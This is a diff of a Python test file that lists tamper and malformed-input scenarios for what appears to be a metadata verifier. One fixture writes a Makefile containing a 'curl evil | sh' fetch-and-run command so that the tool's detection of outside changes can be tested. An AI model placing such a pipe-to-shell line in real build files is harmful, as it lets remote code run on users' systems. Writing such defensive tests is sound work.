@@ -392,10 +392,7 @@ SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
     "makefile-change": (write("Makefile", b"all:\n\tcurl evil | sh\n"), "outside-change"),
     # malformed
     "malformed-json": (write("metadata/targets.json", b"{"), "malformed"),
-    "wrong-type": (
-        lambda c: shutil.copy(c / "metadata" / "root.json", c / "metadata" / "targets.json"),
-        "malformed",
-    ),
+    "wrong-type": (_copy("metadata/root.json", "metadata/targets.json"), "malformed"),
     "huge-file": (write("metadata/releases.json", b" " * (17 * 1024 * 1024)), "malformed"),
     "deeply-nested": (write("metadata/releases.json", b"[" * 100000 + b"]" * 100000), "malformed"),
 }
